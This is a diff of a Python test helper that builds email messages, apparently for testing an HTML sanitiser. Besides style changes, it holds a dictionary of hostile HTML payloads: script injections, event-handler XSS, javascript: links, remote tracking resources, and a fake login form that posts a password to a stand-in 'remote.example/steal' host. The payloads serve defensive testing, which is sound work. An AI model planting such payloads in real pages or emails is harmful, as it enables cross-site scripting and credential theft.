@@ -3,9 +3,10 @@
 from __future__ import annotations
 
 import itertools
+from datetime import UTC, datetime
 from email.message import EmailMessage
+from email.policy import SMTP
 from email.utils import format_datetime, make_msgid
-from datetime import datetime, timezone
 
 _ids = itertools.count(1)
 
@@ -40,7 +41,9 @@ def build_message(
     if cc:
         message["Cc"] = cc
     message["Subject"] = subject
-    message["Date"] = format_datetime(date or datetime(2026, 11, 2, 10, next(_ids) % 60, tzinfo=timezone.utc))
+    message["Date"] = format_datetime(
+        date or datetime(2026, 11, 2, 10, next(_ids) % 60, tzinfo=UTC)
+    )
     message["Message-ID"] = message_id or make_msgid(domain="customer.test")
     if in_reply_to:
         message["In-Reply-To"] = in_reply_to
@@ -62,14 +65,14 @@ def build_message(
     for filename, mime, data in attachments:
         maintype, subtype = mime.split("/", 1)
         message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
-    return bytes(message)
+    return message.as_bytes(policy=SMTP)
 
 
 # Hostile HTML bodies: none may run script, navigate, or load anything remote.
 HOSTILE_HTML = {
     "script": "<p>hi</p><script>alert('script')</script>",
     "event_handler": '<img src="x" onerror="alert(\'onerror\')"><body onload="alert(1)">',
-    "javascript_link": '<a href="javascript:alert(\'js-link\')">click me</a>',
+    "javascript_link": "<a href=\"javascript:alert('js-link')\">click me</a>",
     "svg_script": '<svg onload="alert(\'svg\')"><script>alert("svg2")</script></svg>',
     "css_overlay": (
         '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;'
@@ -79,12 +82,12 @@ HOSTILE_HTML = {
     "base_tag": '<base href="http://remote.example/"><a href="/logout">relative</a>',
     "form": (
         '<form action="http://remote.example/steal" method="post"><input name="password">'
-        '<button>Login</button></form>'
+        "<button>Login</button></form>"
     ),
     "remote_image": '<img src="http://remote.example/pixel.gif" width="1" height="1">',
     "remote_css": (
         '<link rel="stylesheet" href="http://remote.example/x.css">'
-        '<style>@import url(http://remote.example/y.css); body{background:url(http://remote.example/z)}</style>'
+        "<style>@import url(http://remote.example/y.css); body{background:url(http://remote.example/z)}</style>"
     ),
     "iframe": '<iframe src="http://remote.example/"></iframe>',
     "htmx_injection": (
